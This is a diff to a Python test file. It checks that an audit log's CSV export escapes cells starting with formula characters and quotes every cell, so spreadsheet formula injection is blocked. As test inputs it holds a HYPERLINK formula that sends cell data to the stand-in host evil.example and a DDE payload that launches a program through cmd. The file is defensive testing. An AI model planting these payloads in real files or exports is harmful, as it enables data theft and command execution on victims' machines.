@@ -361,14 +361,35 @@ def test_the_csv_is_read_in_keyset_batches_that_neither_repeat_nor_skip(app, cli
     assert [int(row[0]) for row in rows[1:]] == [event.seq for event in reversed(made)]
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+# OWASP CSV Injection: =, +, -, @, tab, carriage return and line feed; ASVS 5.0 1.2.10 adds NUL; ";" opens a
+# new cell where the spreadsheet's separator is a semicolon; and the full-width forms some spreadsheets accept.
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", ";", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS, ids=[repr(start) for start in FORMULA_STARTS])
 def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote(app, client, start):
+    """Issue 11: on main a cell starting with ";" or a line feed (among others) went out unescaped."""
     payload = f'{start}HYPERLINK("https://evil.example/?x="&A1)'
+    assert next(csv.reader(io.StringIO(audit_log.csv_rows([[payload]]))))[0] == "'" + payload
+    assert audit_log.csv_rows([["CR-2026-00001", None]]) == '"CR-2026-00001",""\r\n'
+    if start == "\0":
+        return  # PostgreSQL cannot store a NUL in text, so none can reach the export from the audit trail
     append(action="test_formula", object_id=payload)
     rows = csv_rows(client, action="test_formula")
     assert rows[1][8] == "'" + payload
-    assert audit_log.csv_safe("CR-2026-00001") == "CR-2026-00001"
-    assert audit_log.csv_safe(None) == ""
+
+
+def test_every_csv_cell_is_quoted_so_a_separator_inside_a_value_cannot_start_a_new_cell(app, client):
+    """OWASP: a field separator (',' or ';') or a quote inside a value must not let a formula start a cell."""
+    payload = 'Mozilla;=cmd|"/c calc"!A1,=1+1'
+    append(action="test_separator", object_id=payload)
+    response, _ = get_streamed(client, "/admin/audit.csv", action="test_separator")
+    body = response.get_data().decode("utf-8-sig")
+    header, line = body.splitlines()[:2]
+    assert header.startswith('"seq","')
+    assert '"Mozilla;=cmd|""/c calc""!A1,=1+1"' in line
+    assert line.startswith('"') and line.endswith('"')
+    assert read_csv(response)[1][8] == payload
 
 
 # --- The chain's status -------------------------------------------------------------------------------------------
